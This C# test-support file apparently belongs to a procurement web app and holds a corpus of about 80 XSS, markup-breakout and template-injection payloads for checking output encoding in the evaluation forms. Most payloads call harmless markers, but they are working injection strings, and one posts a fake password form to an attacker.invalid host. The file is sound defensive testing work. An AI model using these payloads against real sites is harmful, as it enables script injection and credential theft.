using System.Text;
using Commissioning.Core.Text;

namespace Commissioning.Tests.Support;

/// <summary>
/// Our own corpus of hostile text for the free-text fields of the evaluation journey: each payload
/// is something a person could type (or a file could hold) that would run script, inject markup,
/// leave the page or be read as a template if any page or document wrote it out without encoding
/// it for where it lands. Every payload that could run calls a marker: <c>alert(1)</c> (a
/// dialog) or an assignment to <c>window.__x</c> (a setter the browser tests trap), so a payload
/// that ran is seen even where the content security policy would not have blocked it. The list is
/// ours, written for these fields; it is not a copy of a published cheat sheet.
/// </summary>
/// <remarks>
/// <para>
/// The free-text fields it goes through (the evaluation journey's input classes and validators in
/// <c>src/Commissioning.Web/Pages/Tenders/Evaluate</c>, <c>Moderate</c> and <c>Forms/AwardForms.cs</c>),
/// with the most characters each takes (<see cref="Fields"/>):
/// </para>
/// <list type="bullet">
/// <item><c>ScoreInput.Rationale</c>: why the evaluator gave a score (4,000, several lines).</item>
/// <item><c>DeclarationInput.Details</c>: the conflict of interest an evaluator declares (4,000, several lines).</item>
/// <item><c>ConflictDecisionInput.Reason</c>: the owner's decision on a declared conflict (2,000, several lines).</item>
/// <item><c>ConsensusInput.Reason</c>: why the panel agreed a consensus score (2,000, several lines).</item>
/// <item><c>GateDecisionInput.Reason</c>: why a bid passes or fails a pass or fail gate (2,000, several lines).</item>
/// <item><c>LowPriceInput.Reason</c>: the abnormally low price decision, explanation accepted or bid excluded (2,000, several lines).</item>
/// <item><c>StageMoveInput.Reason</c>: why the tender goes back a stage, or why it is cancelled (the cancellation reason) (2,000, several lines).</item>
/// <item><c>AwardInput.ApprovedBy</c>: who approved the award decision (200, one line).</item>
/// <item><c>AwardInput.Note</c>: the award decision's note (2,000, several lines).</item>
/// </list>
/// <para>
/// The award page's notice date forms take dates only, so there is no other notice text. Some
/// payloads hold characters the forms' text rules refuse (a null, control characters, a
/// right-to-left override, the line separator): <see cref="XssPayload.PassesTheForms"/> says which.
/// The forms refuse those with a message; the application layer stores whatever it is given, so
/// the tests store them through the handlers too, as defence in depth.
/// </para>
/// </remarks>
internal static class XssCorpus
{
    /// <summary>The fields the corpus goes through.</summary>
    public static class Fields
    {
        public static readonly XssField Rationale = new("Score rationale", 4000, OneLine: false);
        public static readonly XssField Declaration = new("Conflict of interest details", 4000, OneLine: false);
        public static readonly XssField ConflictDecision = new("Conflict decision reason", 2000, OneLine: false);
        public static readonly XssField Consensus = new("Consensus reason", 2000, OneLine: false);
        public static readonly XssField Gate = new("Gate decision reason", 2000, OneLine: false);
        public static readonly XssField LowPrice = new("Abnormally low price reason", 2000, OneLine: false);
        public static readonly XssField StageMove = new("Stage move or cancellation reason", 2000, OneLine: false);
        public static readonly XssField Approver = new("Award approved by", 200, OneLine: true);
        public static readonly XssField AwardNote = new("Award note", 2000, OneLine: false);

        public static IReadOnlyList<XssField> All { get; } = [Rationale, Declaration, ConflictDecision, Consensus, Gate, LowPrice, StageMove, Approver, AwardNote];
    }

    /// <summary>The payloads, in a fixed order.</summary>
    public static IReadOnlyList<XssPayload> Payloads { get; } =
    [
        // Script elements, spelt several ways.
        new("script", "<script>alert(1)</script>"),
        new("script upper case", "<SCRIPT>alert(1)</SCRIPT>"),
        new("script mixed case, spaces", "<ScRiPt >window.__x=1</sCrIpT >"),
        new("script with a slash attribute", "<script/x>alert(1)</script>"),
        new("script from a data URL", "<script src=\"data:text/javascript,alert(1)\"></script>"),
        new("doubled angle bracket", "<<script>alert(1);//<</script>"),

        // Leaving the text, the element or the attribute the value is written into.
        new("double quote breakout", "\"><script>alert(1)</script>"),
        new("single quote breakout", "'><img src=x onerror=alert(1)>"),
        new("paragraph breakout", "</p><img src=x onerror=alert(1)><p>"),
        new("list breakout", "</li></ul><script>alert(1)</script>"),
        new("table breakout", "</td></tr></table><svg onload=alert(1)>"),
        new("summary list breakout", "</dd></dl><img src=x onerror=alert(1)>"),
        new("double-quoted attribute", "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)"),
        new("single-quoted attribute", "' onfocus='alert(1)' autofocus='"),
        new("unquoted attribute", "x autofocus onfocus=alert(1) tabindex=0"),
        new("style attribute", "\" style=\"background:url(javascript:alert(1))"),

        // Leaving raw-text and escapable raw-text elements.
        new("textarea breakout", "</textarea><script>alert(1)</script>"),
        new("textarea breakout, upper case", "</TEXTAREA ><img src=x onerror=alert(1)>"),
        new("title breakout", "</title><script>alert(1)</script>"),
        new("noscript breakout", "</noscript><img src=x onerror=alert(1)>"),
        new("style breakout", "</style><script>alert(1)</script>"),
        new("script string breakout", "</script><script>alert(1)</script>"),

        // Event handlers.
        new("img onerror", "<img src=x onerror=alert(1)>"),
        new("img onerror, upper case", "<IMG SRC=\"x\" ONERROR=\"window.__x=1\">"),
        new("svg onload", "<svg onload=alert(1)>"),
        new("svg animate onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        new("body onload", "<body onload=alert(1)>"),
        new("details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
        new("iframe onload", "<iframe onload=alert(1)></iframe>"),
        new("iframe srcdoc", "<iframe srcdoc=\"<script>parent.__x=1</script>\"></iframe>"),
        new("input onfocus", "<input autofocus onfocus=alert(1)>"),
        new("pointer over the whole page", "<div onpointerover=alert(1) style=\"position:fixed;inset:0\">x</div>"),

        // Links and other URLs: javascript:, data: and vbscript:, obfuscated.
        new("javascript link", "<a href=\"javascript:alert(1)\">Open</a>"),
        new("javascript link, entity", "<a href=\"&#106;avascript:alert(1)\">Open</a>"),
        new("javascript link, tab entity", "<a href=\"java&#x09;script:alert(1)\">Open</a>"),
        new("javascript link, line break", "<a href=\"java\nscript:alert(1)\">Open</a>"),
        new("javascript link, leading space, upper case", "<a href=\" JaVaScRiPt:alert(1)\">Open</a>"),
        new("data link", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Open</a>"),
        new("vbscript link", "<a href=\"vbscript:msgbox(1)\">Open</a>"),
        new("form action", "<form action=\"javascript:alert(1)\"><button>Send</button></form>"),
        new("button formaction", "<button formaction=\"javascript:alert(1)\">Send</button>"),
        new("object data", "<object data=\"javascript:alert(1)\"></object>"),
        new("embed src", "<embed src=\"javascript:alert(1)\">"),

        // SVG and MathML.
        new("svg script", "<svg><script>alert(1)</script></svg>"),
        new("svg xlink link", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=\"20\">Open</text></a></svg>"),
        new("mathml namespace confusion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        new("mathml link", "<math href=\"javascript:alert(1)\">Open</math>"),

        // Style sheets and CSS expressions.
        new("style element", "<style>body{background:url(\"javascript:alert(1)\")}</style>"),
        new("css expression", "<div style=\"width:expression(alert(1))\">x</div>"),

        // Elements that change the whole page: base, meta refresh, a form elsewhere.
        new("base href", "<base href=\"javascript:alert(1)//\">"),
        new("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
        new("form to another site", "<form action=\"https://attacker.invalid/collect\"><input name=\"pw\"><button>Sign in</button></form>"),

        // Comments and CDATA.
        new("comment hiding an attribute", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
        new("comment close", "--><script>alert(1)</script><!--"),
        new("cdata", "<![CDATA[<script>alert(1)</script>]]>"),

        // Null bytes and control characters.
        new("null inside the tag name", "<scr\0ipt>alert(1)</scr\0ipt>"),
        new("null in a javascript link", "<a href=\"java\0script:alert(1)\">Open</a>"),
        new("control characters", "\u0001\u001b[31m<script>alert(1)</script>\u007f\u0085"),

        // Unicode: escapes written out, full-width brackets, direction overrides, line separators.
        new("unicode escapes as text", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
        new("escape in a handler", "<img src=x onerror=\\u0061lert(1)>"),
        new("full-width brackets", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E"),
        new("right-to-left override", "\u202Egnp.exe<script>alert(1)</script>\u202C"),
        new("line separator in a script", "\u2028</script><script>alert(1)</script>\u2029"),
        new("already entity-encoded", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img&amp;gt;"),

        // Markdown, for the Markdown downloads.
        new("markdown link", "[Open the bid](javascript:alert(1))"),
        new("markdown image", "![chart](javascript:alert(1))"),
        new("markdown autolink", "<javascript:alert(1)>"),
        new("markdown reference link", "[Open][r]\n\n[r]: javascript:alert(1)"),
        new("markdown raw html block", "<div>\n<b onclick=alert(1)>bold</b>\n</div>"),
        new("markdown structure", "# Heading\n\n* item\n\n| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |"),

        // Template syntax: Scriban (the documents) and Razor (the pages).
        new("scriban arithmetic", "{{ 7*7 }}"),
        new("scriban function", "{{ date.now }} {{ include 'shared/page-start.html' }}"),
        new("razor expression", "@(1+1) @DateTime.Now @{ throw null; }"),
        new("other template syntax", "${7*7} #{7*7} <%= 7*7 %> {% raw %}"),

        // JavaScript and JSON string breakouts.
        new("js string breakout", "';alert(1);//\";alert(1);//"),
        new("json breakout", "\"}]}</script><script>alert(1)</script>"),

        // Very long text (cut to each field's limit where the limit is lower).
        new("long text", Long(1960)), // a 2,000-character field's limit, less the room for a label
        new("very long text", Long(3960)),
    ];

    private static string Long(int length)
    {
        var text = new StringBuilder("<script>alert(1)</script> ");
        const string Tail = " <img src=x onerror=alert(1)>";
        var filler = "The bid's plan <i>names</i> the clinics & the staff. ";
        while (text.Length + filler.Length + Tail.Length <= length)
        {
            text.Append(filler);
        }

        text.Append('x', length - text.Length - Tail.Length).Append(Tail);
        return text.ToString();
    }

    /// <summary>Characters kept free in every value for the label that says which place it is in (<see cref="XssValue.Labelled"/>).</summary>
    public const int LabelRoom = 40;

    /// <summary>
    /// Values for one field's <paramref name="slots"/> places (bids, items, lots) such that every
    /// payload is in at least one: one payload a place when there are at least as many places as
    /// payloads (starting at <paramref name="offset"/>, wrapping round), otherwise the long payloads
    /// alone and the rest shared out round the other places, joined with line breaks (spaces on one
    /// line). Every value fits the field.
    /// </summary>
    public static IReadOnlyList<XssValue> Spread(XssField field, int slots, int offset = 0)
    {
        ArgumentNullException.ThrowIfNull(field);
        var count = Payloads.Count;
        if (slots >= count)
        {
            return [.. Enumerable.Range(0, slots).Select(i => XssValue.Of(field, [Payloads[(i + offset) % count]]))];
        }

        var rotated = Enumerable.Range(0, count).Select(i => Payloads[(i + offset) % count]).ToList();
        var alone = rotated.Where(p => p.Text.Length > 500).ToList();
        var rest = rotated.Except(alone).ToList();
        if (slots <= alone.Count)
        {
            throw new InvalidOperationException($"{field.Name}: {slots} places cannot take {count} payloads.");
        }

        var values = alone.Select(p => new List<XssPayload> { p }).ToList();
        var shared = slots - alone.Count;
        var groups = Enumerable.Range(0, shared).Select(_ => new List<XssPayload>()).ToList();
        for (var i = 0; i < rest.Count; i++)
        {
            groups[i % shared].Add(rest[i]);
        }

        var spread = values.Concat(groups).Select(g => XssValue.Of(field, g)).ToList();
        if (spread.FirstOrDefault(v => v.Text.Length > field.MaxLength - LabelRoom) is { } tooLong)
        {
            throw new InvalidOperationException($"{field.Name}: {slots} places are too few; one value would be {tooLong.Text.Length} characters.");
        }

        return spread;
    }

    /// <summary>
    /// Values for a field set again and again (each replacing the last), as many as it takes for
    /// every payload to be in one: payloads packed in order, joined, up to the field's limit.
    /// </summary>
    public static IReadOnlyList<XssValue> Pack(XssField field)
    {
        ArgumentNullException.ThrowIfNull(field);
        var values = new List<XssValue>();
        var group = new List<XssPayload>();
        foreach (var payload in Payloads)
        {
            var candidate = group.Append(payload).ToList();
            if (group.Count > 0 && XssValue.Join(field, candidate).Length > field.MaxLength - LabelRoom)
            {
                values.Add(XssValue.Of(field, group));
                group = [payload];
            }
            else
            {
                group = candidate;
            }
        }

        values.Add(XssValue.Of(field, group));
        return values;
    }

    /// <summary>
    /// Text as the browser's text content shows it, for finding a payload on a page: without
    /// white space (line breaks become br elements or spaces), without the controls and format
    /// characters that HTML parsing drops or replaces, and without the replacement character.
    /// </summary>
    public static string Visible(string text)
    {
        ArgumentNullException.ThrowIfNull(text);
        var builder = new StringBuilder(text.Length);
        foreach (var c in text)
        {
            if (char.IsWhiteSpace(c) || char.IsControl(c) || c == '\uFFFD' || c == '\uFEFF'
                || c is (>= '\u200B' and <= '\u200F') or (>= '\u202A' and <= '\u202E') or (>= '\u2066' and <= '\u2069'))
            {
                continue;
            }

            builder.Append(c);
        }

        return builder.ToString();
    }
}

/// <summary>A field that takes free text: its name in words, the most characters it takes, and whether it is one line.</summary>
internal sealed record XssField(string Name, int MaxLength, bool OneLine);

/// <summary>One hostile text, named for what it tries.</summary>
internal sealed record XssPayload(string Name, string Text)
{
    /// <summary>The text as a field takes it: on one line for a one-line field, and cut to the field's limit (less the room for a label).</summary>
    public string For(XssField field)
    {
        ArgumentNullException.ThrowIfNull(field);
        var text = field.OneLine ? Text.ReplaceLineEndings(" ") : Text;
        var most = field.MaxLength - XssCorpus.LabelRoom;
        return text.Length > most ? text[..most] : text;
    }

    /// <summary>Whether the site's forms accept it in this field (the text rules refuse controls, direction overrides and line separators).</summary>
    public bool PassesTheForms(XssField field) => TextRules.Check(For(field), field.OneLine ? TextShape.OneLine : TextShape.MultiLine) is null;

    public override string ToString() => Name;
}

/// <summary>One value to store in a field: the text, and the payloads it holds (each as the field takes it).</summary>
internal sealed record XssValue(string Text, IReadOnlyList<XssPayload> Payloads, IReadOnlyList<string> Shown)
{
    /// <summary>
    /// The text as the database can keep it: without null characters. SQLite hands text back only
    /// up to a null (and PostgreSQL refuses one); the forms and the file import refuse nulls, so
    /// only a direct call of a handler could store one. The tests store this through the handlers,
    /// and type <see cref="Text"/>, nulls and all, into the forms, whose redisplay shows it back.
    /// </summary>
    public string Stored => Text.Replace("\0", string.Empty, StringComparison.Ordinal);

    /// <summary>
    /// The value with a label before it that says which place it was stored in (such as "G3 of
    /// bid-2:"), so that a page is seen to show this very value, not the same payload from another
    /// field; the label is shown with the first payload.
    /// </summary>
    public XssValue Labelled(string label)
    {
        ArgumentException.ThrowIfNullOrEmpty(label);
        if (label.Length >= XssCorpus.LabelRoom)
        {
            throw new ArgumentException($"The label '{label}' is longer than the room kept for it.", nameof(label));
        }

        return this with { Text = label + " " + Text, Shown = [label + " " + Shown[0], .. Shown.Skip(1)] };
    }

    public static XssValue Of(XssField field, IReadOnlyList<XssPayload> payloads) =>
        new(Join(field, payloads), payloads, [.. payloads.Select(p => p.For(field))]);

    public static string Join(XssField field, IEnumerable<XssPayload> payloads) =>
        string.Join(field.OneLine ? " " : "\n", payloads.Select(p => p.For(field)));
}
